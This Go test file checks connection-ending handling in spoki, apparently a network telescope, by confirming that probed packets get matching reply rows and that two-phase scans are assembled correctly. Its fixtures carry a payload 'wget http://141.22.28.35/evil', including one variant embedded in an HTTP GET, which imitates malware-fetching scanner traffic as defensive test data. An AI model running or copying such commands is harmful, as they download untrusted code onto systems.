package test

import (
	"encoding/hex"
	"fmt"
	"net/netip"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/spoki-telescope/spoki/lab"
	"github.com/spoki-telescope/spoki/records"
	"github.com/spoki-telescope/spoki/scenarios"
)

// The reply-row invariant (README, "Raw and reply rows"): every raw row
// with probed=true has exactly one reply row with the same userid, method
// and swapped addresses and ports, written when spoki reacted (within a
// second of the packet), whatever ended the connection later. Spoki's
// assemble confirms a probed row only through that reply row; without it
// the handshake ACK, and so the payload of a two-phase scan, is lost.

// endMaxReactionDelay is how much later than its packet a reaction's reply
// row may be stamped.
const endMaxReactionDelay = time.Second

// endCheckInvariant checks the invariant over one run's raw and reply rows
// and returns the reply rows by userid.
func endCheckInvariant(t *testing.T, raw []records.Packet, replies []records.Reply) map[uint32][]records.Reply {
	t.Helper()
	byUID := map[uint32][]records.Reply{}
	for _, r := range replies {
		byUID[r.UserID] = append(byUID[r.UserID], r)
	}
	probedMethods := map[records.Method]bool{}
	for _, p := range raw {
		if !p.Probed {
			continue
		}
		probedMethods[p.Method] = true
		var match []records.Reply
		for _, r := range byUID[p.UserID] {
			if r.Method == p.Method && r.Src == p.Dst && r.Dst == p.Src && r.SrcPort == p.DstPort && r.DstPort == p.SrcPort {
				match = append(match, r)
			}
		}
		if len(match) != 1 {
			t.Errorf("raw row %s:%d > %s:%d flags %#x probed %s userid %d: %d reply rows with its userid, method and swapped addresses, want 1 (rows of the userid: %v)",
				p.Src, p.SrcPort, p.Dst, p.DstPort, p.Flags, p.Method, p.UserID, len(match), byUID[p.UserID])
			continue
		}
		if d := match[0].Time.Sub(p.Time); d < 0 || d > endMaxReactionDelay {
			t.Errorf("userid %d (%s): reply row %v after its packet, want within %v", p.UserID, p.Method, d, endMaxReactionDelay)
		}
	}
	// Segments of sessions are never mistaken for confirmations.
	for _, m := range []records.Method{records.MethodSession, records.MethodSessionRST} {
		if probedMethods[m] {
			t.Errorf("a raw row is probed with %s, the method of session segments", m)
		}
	}
	return byUID
}

// endTwoPhase is what assemble made of one two-phase scan.
type endTwoPhase struct {
	tag, payload, method string
	reacted              bool
}

// endAssemble runs `spoki assemble --flush-at-eof` over dir from the hour
// of start and returns the records whose regular SYN went to dst.
func endAssemble(t *testing.T, dir string, start time.Time, dst netip.Addr) []endTwoPhase {
	t.Helper()
	out := t.TempDir()
	_, errOut, code := e2eExecLocal(t, 60*time.Second, labSpokiBin(t), "assemble", "--start", start.UTC().Format("2006-01-02T15"),
		"--tag", e2eTag, "--out", out, "--flush-at-eof", dir)
	if code != 0 {
		t.Fatalf("spoki assemble: exit %d: %s", code, errOut)
	}
	files, _ := filepath.Glob(filepath.Join(out, "*.json.gz"))
	var got []endTwoPhase
	for _, f := range files {
		for _, rec := range e2eReadGzipJSON(t, f) {
			rm, _ := e2eField(rec, "rsyn", "trigger").(map[string]any)
			if rm == nil || rm["daddr"] != dst.String() {
				continue
			}
			tp := endTwoPhase{tag: fmt.Sprint(rec["tag"])}
			if p, ok := e2eField(rec, "rack", "trigger", "payload", "payload").(string); ok {
				tp.payload = p
			}
			if re, ok := e2eField(rec, "rack", "reaction").(map[string]any); ok {
				tp.reacted, tp.method = true, fmt.Sprint(re["method"])
			}
			got = append(got, tp)
		}
	}
	return got
}

// endCheckTwoPhase checks that assemble found exactly one two-phase scan to
// dst, tagged two-phase, with payload and the ACK's method (none when the
// ACK was not probed).
func endCheckTwoPhase(t *testing.T, got []endTwoPhase, payload string, method records.Method) {
	t.Helper()
	if len(got) != 1 {
		t.Fatalf("assemble: %d records of the scan, want 1: %+v", len(got), got)
	}
	g := got[0]
	if g.tag != "two-phase" {
		t.Errorf("assemble: tag %q, want two-phase (the ACK's payload is lost)", g.tag)
	}
	if want := hex.EncodeToString([]byte(payload)); g.payload != want {
		t.Errorf("assemble: rack payload %q, want %q (%q)", g.payload, want, payload)
	}
	if want := method != records.MethodNone; g.reacted != want || want && g.method != method.String() {
		t.Errorf("assemble: rack reaction %v %q, want %v %q", g.reacted, g.method, want, method)
	}
}

// endAckRows returns the raw rows of ACKs with data from port sport to dst.
func endAckRows(raw []records.Packet, dst netip.Addr, sport uint16) []records.Packet {
	var found []records.Packet
	for _, p := range raw {
		if p.Dst == dst && p.SrcPort == sport && p.Flags&records.FlagSYN == 0 && p.Flags&records.FlagACK != 0 && p.PayloadLen > 0 {
			found = append(found, p)
		}
	}
	return found
}

// endAckRow returns the one raw row of the ACK with data from port sport.
func endAckRow(t *testing.T, raw []records.Packet, dst netip.Addr, sport uint16) records.Packet {
	t.Helper()
	found := endAckRows(raw, dst, sport)
	if len(found) != 1 {
		t.Fatalf("%d raw rows of the ACK with data from port %d to %s, want 1", len(found), sport, dst)
	}
	return found[0]
}

// endingCases are the ways a connection can end, one scenario each (its
// `// telescope:` comment gives the flags of the telescope it needs).
var endingCases = []struct {
	file      string
	dst       netip.Addr
	payload   string
	ackMethod records.Method // MethodNone: the ACK is not probed
	// endReply is the method of the reply row that ends the session
	// (MethodNone: none is required).
	endReply records.Method
}{
	{"endings/client-reset-ack-r.pkt", netip.MustParseAddr("198.51.100.142"), endWget, records.MethodACK, records.MethodNone},
	{"endings/client-reset.pkt", netip.MustParseAddr("198.51.100.143"), endWget, records.MethodACK, records.MethodNone},
	{"endings/client-fin.pkt", netip.MustParseAddr("198.51.100.144"), endWget, records.MethodACK, records.MethodSessionRST},
	{"endings/handler-close.pkt", netip.MustParseAddr("198.51.100.145"), "GET /x?wget+http://141.22.28.35/evil HTTP/1.0\r\n\r\n", records.MethodACK, records.MethodSessionRST},
	{"endings/idle-timeout.pkt", netip.MustParseAddr("198.51.100.146"), endWget, records.MethodACK, records.MethodSessionRST},
	{"endings/total-timeout.pkt", netip.MustParseAddr("198.51.100.147"), endWget, records.MethodACK, records.MethodSessionRST},
	{"endings/over-cap.pkt", netip.MustParseAddr("198.51.100.148"), endWget, records.MethodNone, records.MethodNone},
	{"endings/pure.pkt", netip.MustParseAddr("198.51.100.150"), endWget, records.MethodRST, records.MethodNone},
}

// endWget is test-spoki's payload.
const endWget = "wget http://141.22.28.35/evil"

// endRegularPort is the source port of the scenarios' regular SYN and ACK.
const endRegularPort = 41725

// TestConnectionEndings runs each ending's scenario against a telescope of
// its own (started with the scenario's flags), then checks the reply-row
// invariant over the raw and reply logs, the method of the ACK's row and of
// the session's last reply, and that `spoki assemble --flush-at-eof` files
// the scan as two-phase with the ACK's payload.
func TestConnectionEndings(t *testing.T) {
	bin := labSpokiBin(t)
	for _, tc := range endingCases {
		t.Run(strings.TrimSuffix(filepath.Base(tc.file), ".pkt"), func(t *testing.T) {
			s, err := scenarios.ParseFile(scenarios.Builtin(), tc.file)
			if err != nil {
				t.Fatalf("parse: %v", err)
			}
			l := e2eNewLab(t, lab.Config{})
			tel := e2eStartTelescope(t, l, s.Telescope...)
			start := time.Now()
			out, _, code := e2eExec(t, l, l.Scanner, scnTimeout, nil, bin, "scenario", "run",
				"--netns", l.Scanner, "--log-dir", tel.logDir, "--tag", e2eTag, filepath.Join(scnDir, tc.file))
			if code != 0 || !strings.Contains(out, "--- PASS") {
				t.Fatalf("spoki scenario run %s: exit %d, want a pass:\n%s", tc.file, code, out)
			}
			// Let the session end and its last rows reach the files (the
			// writer flushes every second).
			deadline := time.Now().Add(15 * time.Second)
			for {
				acks := endAckRows(e2eReadRawTCP(t, tel.logDir), tc.dst, endRegularPort)
				if len(acks) == 1 && (tc.endReply == records.MethodNone || endHasReply(e2eReadReplies(t, tel.logDir), acks[0], tc.endReply)) {
					break
				}
				if time.Now().After(deadline) {
					t.Fatalf("within 15s: %d raw rows of the ACK with data, want 1, and a %s reply row ending its session", len(acks), tc.endReply)
				}
				time.Sleep(300 * time.Millisecond)
			}
			tel.stop(t)

			raw, replies := e2eReadRawTCP(t, tel.logDir), e2eReadReplies(t, tel.logDir)
			byUID := endCheckInvariant(t, raw, replies)
			ack := endAckRow(t, raw, tc.dst, endRegularPort)
			var methods []string
			if ack.Probed {
				for _, r := range byUID[ack.UserID] {
					methods = append(methods, r.Method.String())
				}
			}
			t.Logf("ACK row: probed=%t method %q; reply rows of its userid: %v", ack.Probed, ack.Method, methods)
			if ack.Probed != (tc.ackMethod != records.MethodNone) || ack.Method != tc.ackMethod {
				t.Errorf("ACK row: probed=%t method %q, want %q", ack.Probed, ack.Method, tc.ackMethod)
			}
			if string(ack.Payload) != tc.payload {
				t.Errorf("ACK row payload %q, want %q", ack.Payload, tc.payload)
			}
			if tc.ackMethod == records.MethodRST && ack.ProbeSeq != ack.Ack {
				t.Errorf("pure ACK row: probe snum %d, want the ACK's ack %d", ack.ProbeSeq, ack.Ack)
			}
			endCheckTwoPhase(t, endAssemble(t, tel.logDir, start, tc.dst), tc.payload, tc.ackMethod)
		})
	}
}

// endHasReply reports whether replies hold a row of method m on ack's
// connection (its userid, addresses swapped).
func endHasReply(replies []records.Reply, ack records.Packet, m records.Method) bool {
	for _, r := range replies {
		if r.UserID == ack.UserID && r.Method == m && r.Dst == ack.Src && r.DstPort == ack.SrcPort {
			return true
		}
	}
	return false
}
